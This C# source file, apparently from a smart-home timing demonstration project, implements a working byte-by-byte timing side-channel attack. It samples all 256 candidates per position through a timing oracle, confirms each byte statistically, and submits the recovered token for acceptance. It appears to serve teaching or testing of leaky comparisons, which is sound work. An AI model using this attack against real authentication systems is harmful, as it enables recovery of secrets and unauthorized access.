using System.Diagnostics;

namespace SmartHome.TimingDemo;

public sealed record RecoveryOptions
{
    /// <summary>Samples per candidate at the first look.</summary>
    public int InitialSamples { get; init; } = 8;

    /// <summary>Budget: samples per candidate per byte after which the byte is declared "no significant leak".</summary>
    public int MaxSamples { get; init; } = 2048;

    /// <summary>Samples per candidate grow by this factor between looks.</summary>
    public double Growth { get; init; } = 1.5;

    /// <summary>Family-wise error rate per byte (discovery), and the level of the fresh-sample confirmation.</summary>
    public double Alpha { get; init; } = 0.01;

    public Estimator Estimator { get; init; } = Estimator.Median;

    public int Seed { get; init; } = 1;

    /// <summary>Queries with random tokens before byte 0 so the JIT and caches settle.</summary>
    public int WarmupQueries { get; init; } = 20_000;

    /// <summary>Stop at the first byte without a significant leak (otherwise keep the best guess and go on).</summary>
    public bool StopOnFailure { get; init; } = true;

    /// <summary>Sample-size schedule of the looks: InitialSamples, x Growth, ..., MaxSamples.</summary>
    public IReadOnlyList<int> Schedule()
    {
        var list = new List<int>();
        double n = Math.Max(2, InitialSamples);
        while (true)
        {
            var k = (int)Math.Min(Math.Round(n), MaxSamples);
            if (list.Count == 0 || k > list[^1])
            {
                list.Add(k);
            }

            if (k >= MaxSamples)
            {
                return list;
            }

            n *= Math.Max(1.1, Growth);
        }
    }
}

/// <summary>What the attack concluded about one byte position.</summary>
public sealed record ByteResult(
    int Position,
    bool Significant,
    byte Value,
    int SamplesPerCandidate,
    long Queries,
    double BestEstimateNs,
    double RunnerUpEstimateNs,
    double RestEstimateNs,
    double DiscoveryPValue,
    double DiscoveryThreshold,
    double ConfirmPValue,
    TimeSpan Elapsed);

public sealed record RecoveryResult(
    IReadOnlyList<ByteResult> Bytes,
    // The leading bytes decided with a significant leak (empty when byte 0 showed none).
    byte[] Recovered,
    bool Complete,
    bool AcceptedByOracle,
    long TotalQueries,
    TimeSpan Elapsed);

/// <summary>
/// Recovers a token byte by byte from timing alone. For each position: all 256 candidates
/// (known prefix + candidate + zero filler) are sampled round-robin in a freshly shuffled order per
/// round (cancels drift and order effects); at each look of the schedule the <see cref="LeakDetector"/>
/// tests the slowest candidate against the rest; a discovery is then confirmed on fresh samples
/// (best vs runner-up) before the byte is accepted. Uses nothing but <see cref="ITimingOracle.Query"/>'s time.
/// </summary>
public sealed class ByteRecoverer(ITimingOracle oracle, RecoveryOptions options)
{
    private const int Candidates = 256;

    public RecoveryResult Recover(Action<ByteResult>? onByte = null)
    {
        ArgumentNullException.ThrowIfNull(oracle);
        var total = Stopwatch.StartNew();
        var rng = new Random(options.Seed);
        var length = oracle.TokenLength;
        var known = new byte[length];
        var results = new List<ByteResult>();
        long queries = 0;

        var warm = new byte[length];
        for (var i = 0; i < options.WarmupQueries; i++)
        {
            rng.NextBytes(warm);
            oracle.Query(warm);
        }

        queries += options.WarmupQueries;
        var complete = true;
        for (var pos = 0; pos < length; pos++)
        {
            var r = RecoverByte(known, pos, rng);
            queries += r.Queries;
            results.Add(r);
            onByte?.Invoke(r);
            known[pos] = r.Value;
            if (!r.Significant)
            {
                complete = false;
                if (options.StopOnFailure)
                {
                    break;
                }
            }
        }

        var accepted = false;
        if (complete)
        {
            accepted = oracle.Query(known).Accepted; // one query to see if the door opens
            queries++;
        }

        // Only the leading bytes that were significant count as recovered; a non-significant guess is no claim.
        var decided = results.TakeWhile(r => r.Significant).Count();
        var recovered = known.AsSpan(0, decided).ToArray();
        TimingMetrics.AttackQueries.Add(queries);
        return new RecoveryResult(results, recovered, complete, accepted, queries, total.Elapsed);
    }

    private ByteResult RecoverByte(byte[] known, int pos, Random rng)
    {
        var sw = Stopwatch.StartNew();
        var schedule = options.Schedule();
        var threshold = LeakDetector.BonferroniThreshold(options.Alpha, Candidates, schedule.Count);
        var samples = new List<double>[Candidates];
        for (var c = 0; c < Candidates; c++)
        {
            samples[c] = new List<double>(options.MaxSamples);
        }

        // One buffer for every candidate: only guess[pos] changes, so no candidate gets a different
        // memory address or alignment (which would be a per-candidate timing difference of its own).
        var guess = new byte[known.Length];
        known.AsSpan(0, pos).CopyTo(guess); // filler after pos stays zero

        double Sample(int candidate)
        {
            guess[pos] = (byte)candidate;
            return oracle.Query(guess).ElapsedNs;
        }

        var order = Enumerable.Range(0, Candidates).ToArray();
        long queries = 0;
        Detection? last = null;
        var confirmP = double.NaN;
        var have = 0;
        foreach (var target in schedule)
        {
            for (; have < target; have++)
            {
                rng.Shuffle(order);
                foreach (var c in order)
                {
                    samples[c].Add(Sample(c));
                }
            }

            last = LeakDetector.Detect(samples, options.Estimator, threshold);
            if (!last.Significant)
            {
                continue;
            }

            // Confirmation on fresh, independent samples: best vs runner-up, interleaved.
            var n = Math.Max(options.InitialSamples, target);
            var bestFresh = new double[n];
            var runnerFresh = new double[n];
            for (var i = 0; i < n; i++)
            {
                if (rng.Next(2) == 0)
                {
                    bestFresh[i] = Sample(last.Best);
                    runnerFresh[i] = Sample(last.RunnerUp);
                }
                else
                {
                    runnerFresh[i] = Sample(last.RunnerUp);
                    bestFresh[i] = Sample(last.Best);
                }
            }

            queries += 2L * n;
            confirmP = LeakDetector.Confirm(bestFresh, runnerFresh).PValue;
            if (confirmP < options.Alpha)
            {
                queries += (long)have * Candidates;
                TimingMetrics.SamplesPerByte.Record(have);
                return new ByteResult(pos, true, (byte)last.Best, have, queries, last.BestEstimate,
                    last.RunnerUpEstimate, last.RestEstimate, last.Test.PValue, threshold, confirmP, sw.Elapsed);
            }
        }

        queries += (long)have * Candidates;
        TimingMetrics.SamplesPerByte.Record(have);
        var d = last!;
        return new ByteResult(pos, false, (byte)d.Best, have, queries, d.BestEstimate, d.RunnerUpEstimate,
            d.RestEstimate, d.Test.PValue, threshold, confirmP, sw.Elapsed);
    }
}
